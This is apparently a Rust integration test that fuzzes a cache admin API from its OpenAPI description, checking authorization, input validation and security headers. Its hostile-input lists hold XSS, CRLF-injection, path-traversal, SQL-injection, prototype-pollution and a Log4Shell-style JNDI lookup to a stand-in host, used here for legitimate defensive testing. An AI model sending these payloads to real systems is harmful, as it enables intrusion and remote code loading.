//! Every path, for every token, with good, bad and hostile input: made from the description, so that no new one is forgotten.

use std::collections::BTreeSet;
use std::sync::Arc;

use axum::Router;
use axum::body::Body;
use cached_runtime::{Tuning, cache, warmup};
use http::{Request, Response, StatusCode};
use http_body_util::BodyExt as _;
use serde_json::{Value, json};
use tower::ServiceExt as _;

use super::{Desk, READ, WRITE, admin, ask, page, request};
use crate::rig::{Down, World};

const SITE: &str = "it.admin.page";
const KEY: &str = "seen:1:page";

#[warmup(args = [1, 2])]
#[cache(key = "every:{id}", skip(world), cache = &world.cache)]
async fn warm(world: &World, id: u32) -> Result<u64, Down> {
    world.source.read().await
}

/// An operation of the description.
struct Operation {
    method: String,
    /// With its parameters in braces.
    path: String,
    open: bool,
    /// Query parameters of a question, fields of a change: the name, and the types that are taken.
    inputs: Vec<(String, BTreeSet<String>)>,
}

/// What is asked: where, and with what body.
#[derive(Debug, Clone)]
struct Asked {
    method: String,
    path: String,
    body: Vec<u8>,
}

/// What has to come of it, for who may ask.
#[derive(Debug, Clone)]
enum Due {
    /// It is done.
    Done,
    /// It is refused, and this field or parameter is named.
    Named(String),
    /// It is refused with one of these.
    Refused(&'static [u16]),
    /// It is what it says, or it is refused; it breaks nothing.
    Borne,
}

impl Operation {
    async fn all(router: &Router) -> Vec<Self> {
        let (status, document) = ask(router, request("GET", "/api/v1/openapi.json", None, "")).await;
        assert_eq!(status, StatusCode::OK);
        let mut all = Vec::new();
        for (path, methods) in document["paths"].as_object().unwrap() {
            for (method, operation) in methods.as_object().unwrap() {
                let query = operation["parameters"].as_array().into_iter().flatten().filter(|one| one["in"] == "query");
                let query = query.map(|one| (one["name"].as_str().unwrap().to_owned(), types(&one["schema"])));
                let body = &operation["requestBody"]["content"]["application/json"]["schema"]["properties"];
                let fields = body.as_object().into_iter().flatten().map(|(name, schema)| (name.clone(), types(schema)));
                all.push(Self {
                    method: method.to_uppercase(),
                    path: path.clone(),
                    open: operation.get("security").is_none(),
                    inputs: query.chain(fields).collect(),
                });
            }
        }
        all
    }

    fn asked(&self, path: &str, body: impl Into<Vec<u8>>) -> Asked {
        Asked { method: self.method.clone(), path: path.to_owned(), body: body.into() }
    }

    /// The path with these in the place of its parameters.
    fn at(&self, key: &str, site: &str) -> String {
        self.path.replace("{key}", key).replace("{site}", site)
    }

    /// All that it is asked with, and what has to come of it.
    fn inputs(&self) -> Vec<(Asked, Due)> {
        let mut all = if self.method == "GET" { self.questions() } else { self.changes() };
        if self.path != self.at("", "") {
            all.extend(self.names());
        }
        all
    }

    fn questions(&self) -> Vec<(Asked, Due)> {
        let place = self.at(KEY, SITE);
        let mut all = vec![(self.asked(&place, ""), Due::Done)];
        for (name, _) in &self.inputs {
            let (good, bad) = of_parameter(name);
            let with = |value: &str| self.asked(&format!("{place}?{name}={value}"), "");
            all.extend(good.iter().map(|good| (with(good), Due::Done)));
            all.extend(bad.iter().map(|bad| (with(bad), Due::Named(name.clone()))));
            all.extend(HOSTILE_TEXTS.iter().map(|text| (with(&escaped(text)), Due::Named(name.clone()))));
            all.push((self.asked(&format!("{place}?{name}=%FF%00"), ""), Due::Refused(&[400, 422])));
        }
        let unknown = if self.inputs.is_empty() { Due::Borne } else { Due::Named("nobody".to_owned()) };
        all.push((self.asked(&format!("{place}?nobody=1"), ""), unknown));
        all.push((self.asked(&format!("{place}?{}", "a=1&".repeat(500)), ""), Due::Borne));
        all.push((self.asked(&format!("{place}?%3Cscript%3E=%0d%0a"), ""), Due::Borne));
        all.push((self.asked(&place, "a body that nobody asked for"), Due::Borne));
        all
    }

    fn changes(&self) -> Vec<(Asked, Due)> {
        let place = self.at(KEY, SITE);
        let with = |body: &Value| self.asked(&place, body.to_string());
        let mut all: Vec<(Asked, Due)> = good_bodies(&self.path).iter().map(|good| (with(good), Due::Done)).collect();
        for (name, types) in &self.inputs {
            for (kind, wrong) in [
                ("boolean", json!(true)),
                ("integer", json!(7)),
                ("string", json!("seven")),
                ("array", json!([1, null])),
                ("object", json!({ "a": 1 })),
            ] {
                let takes = types.contains(kind) || (kind == "integer" && types.contains("number"));
                // Of times some texts are none.
                let is_time = types.contains("number") && kind == "string";
                if !takes || is_time {
                    all.push((with(&json!({ name.as_str(): wrong })), Due::Named(name.clone())));
                }
            }
            if types.contains("array") {
                all.push((with(&json!({ name.as_str(): [1] })), Due::Named(name.clone())));
            }
            if types.contains("integer") || types.contains("number") {
                for wrong in ["-1", "-0.5", "1e300"] {
                    let body = format!(r#"{{"{name}": {wrong}}}"#);
                    all.push((self.asked(&place, body), Due::Named(name.clone())));
                }
            }
            all.extend(HOSTILE_TEXTS.iter().map(|text| (with(&json!({ name.as_str(): text })), Due::Borne)));
            all.push((with(&json!({ name.as_str(): "x".repeat(8_000) })), Due::Borne));
        }
        all.push((with(&json!({ "nobody": 1 })), Due::Named("nobody".to_owned())));
        for text in HOSTILE_TEXTS {
            all.push((with(&json!({ (*text): 1 })), Due::Refused(&[422])));
        }
        for (body, refused) in HOSTILE_BODIES {
            all.push((self.asked(&place, *body), Due::Refused(refused)));
        }
        let deep = format!(r#"{{"a": {}{}}}"#, "[".repeat(4_000), "]".repeat(4_000));
        all.push((self.asked(&place, deep), Due::Refused(&[400])));
        all.push((self.asked(&place, vec![b' '; 20_000]), Due::Refused(&[413])));
        all
    }

    /// Names that stand in its path.
    fn names(&self) -> Vec<(Asked, Due)> {
        let body = good_bodies(&self.path).first().map_or_else(String::new, Value::to_string);
        let at = |name: &str| self.asked(&self.at(name, name), if self.method == "GET" { "" } else { &body });
        // Of a key that is not there something is known; a site that is not there is an error.
        let unknown = if self.path.contains("{site}") { Due::Refused(&[400, 404]) } else { Due::Borne };
        let mut all = vec![(at("nobody"), unknown.clone()), (at("%FF"), Due::Refused(&[400]))];
        all.extend(HOSTILE_TEXTS.iter().map(|text| (at(&escaped(text)), unknown.clone())));
        all.push((at(&"x".repeat(5_000)), Due::Refused(&[404, 414, 422])));
        all
    }
}

/// Values of a query parameter: some that are taken, and some that are not.
fn of_parameter(name: &str) -> (&'static [&'static str], &'static [&'static str]) {
    let none: &[&str] = &["x", "", "-1", "1.5", "1e3", "99999999999999999999999", "null", "%20", "+1+"];
    match name {
        "limit" => (&["1", "20", "1000"], &["0", "1001", "x", "", "-1", "1.5", "99999999999999999999999", "%20"]),
        "step" => (&["5", "300"], none),
        "since" => (&["0", "1", "1800000000000"], none),
        _ => panic!("a new parameter: say here what is good for `{name}`, and what is not"),
    }
}

/// Bodies that a change takes.
fn good_bodies(path: &str) -> Vec<Value> {
    match path.rsplit('/').next().unwrap() {
        "clear" => vec![
            json!({ "key": "nobody:1" }),
            json!({ "pattern": "nobody:*" }),
            json!({ "tags": ["nobody"] }),
            json!({ "tags": "nobody" }),
            json!({ "tag": "nobody" }),
            json!({ "namespace": "nobody" }),
            json!({ "tier": "near" }),
            json!({ "all": true }),
        ],
        "prefetch" => vec![json!({ "on": true })],
        "pause" => vec![json!({ "paused": false })],
        "warmup" => vec![json!({}), json!({ "job": "every.warm" })],
        "cleanup" => vec![json!({})],
        "{site}" => {
            vec![json!({ "ttl": 60, "stale": "1m", "capacity": 100_000, "paused": false }), json!({ "reset": true })]
        }
        "stats" | "health" | "curve" | "{key}" => Vec::new(),
        _ => panic!("a new change: say here what is good for `{path}`"),
    }
}

/// Texts that are made to hurt where they are shown, logged, joined to paths or to commands.
const HOSTILE_TEXTS: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "a\r\nset-cookie: x=1",
    "\u{1b}[2J\u{1b}[31m",
    "\0",
    "\u{202e}txt.exe",
    "../../../../etc/passwd",
    "%2e%2e%2f",
    "'; DROP TABLE frames; --",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "*\n*\n*",
];

const HOSTILE_BODIES: &[(&[u8], &[u16])] = &[
    (b"null", &[400]),
    (b"[]", &[400]),
    (b"7", &[400]),
    (b"\"text\"", &[400]),
    (b"{", &[400]),
    (b"{\"a\"", &[400]),
    (b"{} {}", &[400]),
    (b"{\"\xff\": 1}", &[400]),
    (b"\xef\xbb\xbf{}", &[400]),
    (b"{'all': true}", &[400]),
    (b"{\"all\": tru", &[400]),
    (b"all=true", &[400]),
    (b"<a/>", &[400]),
    (b"\0", &[400]),
    (b"{\"ttl\": 1e999}", &[400, 422]),
    (b"{\"constructor\": {}, \"__proto__\": {\"all\": true}}", &[422]),
];

fn types(schema: &Value) -> BTreeSet<String> {
    match &schema["type"] {
        Value::Array(several) => several.iter().filter_map(|one| one.as_str().map(ToOwned::to_owned)).collect(),
        one => one.as_str().map(ToOwned::to_owned).into_iter().collect(),
    }
}

fn escaped(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

async fn desk() -> (Desk, Router) {
    let desk = Desk::new();
    let job = desk.world.cache.warmup().with(desk.world.clone()).silent().only(["every.warm"]);
    let warmer = Arc::new(job.run().await.unwrap());
    let router = admin(&desk.world.cache).warmer(&warmer).router().unwrap();
    page(&desk.world, "1").await.unwrap();
    (desk, router)
}

/// What somebody without the right to change could have changed.
async fn state(desk: &Desk) -> (Value, Tuning, bool, bool, u64) {
    let cache = &desk.world.cache;
    let stats = cache.stats();
    let told = desk.explain(KEY).await["verdict"].clone();
    (told, cache.tuned(SITE).unwrap(), cache.is_paused(), cache.is_prefetching(), stats.invalidations)
}

fn to_ask(asked: &Asked, token: Option<&[u8]>) -> Request<Body> {
    let mut request = request(&asked.method, &asked.path, None, "");
    if let Some(token) = token {
        let value = [b"Bearer ", token].concat();
        request.headers_mut().insert("authorization", http::HeaderValue::from_bytes(&value).unwrap());
    }
    *request.body_mut() = Body::from(asked.body.clone());
    request
}

/// Whatever was asked: an answer that is sealed, of a known kind, and an error that says what it is.
async fn looked_at(what: &str, response: Response<Body>) -> (u16, Value) {
    let status = response.status();
    let header = |name: &str| response.headers().get(name).map(|value| value.to_str().unwrap().to_owned());
    assert!(!status.is_server_error() || status == StatusCode::SERVICE_UNAVAILABLE, "{what}: {status}");
    assert!(header("content-security-policy").is_some_and(|policy| policy.contains("default-src 'none'")), "{what}");
    assert_eq!(header("x-content-type-options").as_deref(), Some("nosniff"), "{what}");
    assert_eq!((header("set-cookie"), header("access-control-allow-origin")), (None, None), "{what}");
    let kind = header("content-type").unwrap_or_default();
    let bytes = response.into_body().collect().await.unwrap().to_bytes();
    if status.is_success() || status.is_redirection() {
        return (status.as_u16(), Value::Null);
    }
    assert_eq!(kind, "application/problem+json", "{what}: {status} {}", String::from_utf8_lossy(&bytes));
    let told: Value = serde_json::from_slice(&bytes).unwrap();
    assert_eq!(told["status"].as_u64(), Some(status.as_u16().into()), "{what}");
    let detail = told["detail"].as_str().unwrap();
    assert!(!detail.is_empty() && !detail.contains(char::is_control), "{what}: {detail:?}");
    assert!(!told["field"].as_str().unwrap_or_default().contains(char::is_control), "{what}: {told}");
    (status.as_u16(), told)
}

#[tokio::test]
async fn every_path_for_every_token_with_every_input() {
    let (desk, router) = desk().await;
    let all = Operation::all(&router).await;
    assert!(all.iter().filter(|operation| operation.method == "POST").count() >= 8, "aliases, too");
    let long = vec![b'a'; 10_000];
    let wrong: [Option<&[u8]>; 6] = [
        None,
        Some(b""),
        Some(b"a token of nobody at all"),
        Some(b"\xff\xfe"),
        Some(&long),
        Some(&READ.as_bytes()[1..]),
    ];
    let mut asked_of = 0;
    // Nobody, and who may only read: nothing changes, whatever is sent.
    let before = state(&desk).await;
    for operation in &all {
        for (asked, due) in operation.inputs() {
            let reads = operation.method == "GET";
            for token in wrong
                .into_iter()
                .chain([Some(READ.as_bytes())])
                .filter(|token| !(reads && *token == Some(READ.as_bytes())))
            {
                let what = format!("{asked:?} with {:?}", token.map(String::from_utf8_lossy));
                let response = router.clone().oneshot(to_ask(&asked, token)).await.unwrap();
                let (status, _) = looked_at(&what, response).await;
                let refused = if token == Some(READ.as_bytes()) { 403 } else { 401 };
                if operation.open {
                    assert_eq!(status, 200, "{what}: it is for everybody ({due:?})");
                } else {
                    assert_eq!(status, refused, "{what}: whatever it is asked with, that is said first");
                }
                asked_of += 1;
            }
        }
    }
    assert_eq!(state(&desk).await, before, "nothing was changed");
    // Who may: what is good is done, what is bad is named.
    for operation in &all {
        let tokens: &[&str] = if operation.method == "GET" { &[READ, WRITE] } else { &[WRITE] };
        for (asked, due) in operation.inputs() {
            // A good clearance empties near; who asks for a curve or a key finds it there.
            page(&desk.world, "1").await.unwrap();
            for token in tokens {
                let what = format!("{asked:?}");
                let response = router.clone().oneshot(to_ask(&asked, Some(token.as_bytes()))).await.unwrap();
                let (status, told) = looked_at(&what, response).await;
                match &due {
                    // A job that is still running is told so.
                    Due::Done if asked.path.ends_with("/warmup") && asked.method == "POST" => {
                        assert!([202, 409].contains(&status), "{what}: {status} {told}");
                    }
                    Due::Done => assert_eq!(status, 200, "{what}: {told}"),
                    Due::Named(_) if operation.open => assert_eq!(status, 200, "{what}"),
                    Due::Named(field) => {
                        let named = told["field"].as_str().unwrap_or_default();
                        assert_eq!((status, named), (422, field.as_str()), "{what}: {told}");
                    }
                    Due::Refused(with) => assert!(with.contains(&status), "{what}: {status} {told}"),
                    Due::Borne => assert!([200, 202, 400, 404, 409, 422].contains(&status), "{what}: {status} {told}"),
                }
                asked_of += 1;
            }
        }
    }
    assert!(asked_of > 3_000, "{asked_of}");
    assert_eq!(page(&desk.world, "1").await, Ok(0), "the cache goes on");
    assert_eq!(desk.get("/api/v1/cache/health").await.0, StatusCode::OK);
}

/// Asked in another way than it is made for, a path does nothing, for nobody.
#[tokio::test]
async fn no_path_takes_another_method() {
    let (desk, router) = desk().await;
    let all = Operation::all(&router).await;
    let before = state(&desk).await;
    let taken: BTreeSet<(String, String)> =
        all.iter().map(|operation| (operation.method.clone(), operation.at(KEY, SITE))).collect();
    let page = ["/admin/cache", "/admin/cache/page.js", "/admin/cache/rights"].map(ToOwned::to_owned);
    for path in taken.iter().map(|(_, path)| path.clone()).chain(page) {
        for method in ["GET", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "CONNECT", "QUERY"] {
            let is_page = path.starts_with("/admin");
            if taken.contains(&(method.to_owned(), path.clone())) || (is_page && method == "GET") {
                continue;
            }
            for token in [None, Some(READ), Some(WRITE)] {
                let asked = Asked { method: method.to_owned(), path: path.clone(), body: b"{\"all\": true}".to_vec() };
                let what = format!("{asked:?} with {token:?}");
                let response = router.clone().oneshot(to_ask(&asked, token.map(str::as_bytes))).await.unwrap();
                let (status, _) = looked_at(&what, response).await;
                assert!([401, 403, 405].contains(&status), "{what}: {status}");
            }
        }
    }
    assert_eq!(state(&desk).await, before, "nothing was changed");
}

/// The page's parts are for everybody, and hold no figures; what a token may is for those who may read.
#[tokio::test]
async fn every_part_of_the_page_for_every_token() {
    let (_desk, router) = desk().await;
    let room = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../runtime/src/admin/page");
    let names = std::fs::read_dir(room).unwrap().map(|file| file.unwrap().file_name().into_string().unwrap());
    let mut parts: Vec<(String, u16)> =
        names.filter(|name| name != "page.html").map(|name| (format!("/admin/cache/{name}"), 200)).collect();
    assert!(parts.len() > 20, "{parts:?}");
    parts.extend([("/admin/cache".to_owned(), 200), ("/admin/cache/".to_owned(), 308)]);
    // What is no part is nothing, also if it is a file.
    for none in [
        "nobody.js",
        "page.html",
        "..",
        "%2e%2e%2fpage.rs",
        "..%2f..%2fmod.rs",
        "page.js%00",
        "PAGE.JS",
        "%FF",
        "page.js%2f",
    ] {
        parts.push((format!("/admin/cache/{none}"), 404));
    }
    for (path, status) in parts {
        for token in [None, Some("a token of nobody at all"), Some(READ), Some(WRITE)] {
            for query in ["", "?v=1", "?%3Cscript%3E", "?token=x"] {
                let asked = Asked { method: "GET".to_owned(), path: format!("{path}{query}"), body: Vec::new() };
                let response = router.clone().oneshot(to_ask(&asked, token.map(str::as_bytes))).await.unwrap();
                let (answered, told) = looked_at(&asked.path, response).await;
                let is_as_due = answered == status || (status == 404 && answered == 400);
                assert!(is_as_due, "{path} with {token:?}: {answered} {told}");
            }
        }
    }
    for (token, rights) in
        [(None, None), (Some("a token of nobody at all"), None), (Some(READ), Some(false)), (Some(WRITE), Some(true))]
    {
        let (status, told) = ask(&router, request("GET", "/admin/cache/rights", token, "")).await;
        assert_eq!(status.as_u16(), if rights.is_some() { 200 } else { 401 }, "{token:?}");
        assert_eq!(told["changes"].as_bool(), rights, "{token:?}: {told}");
    }
}
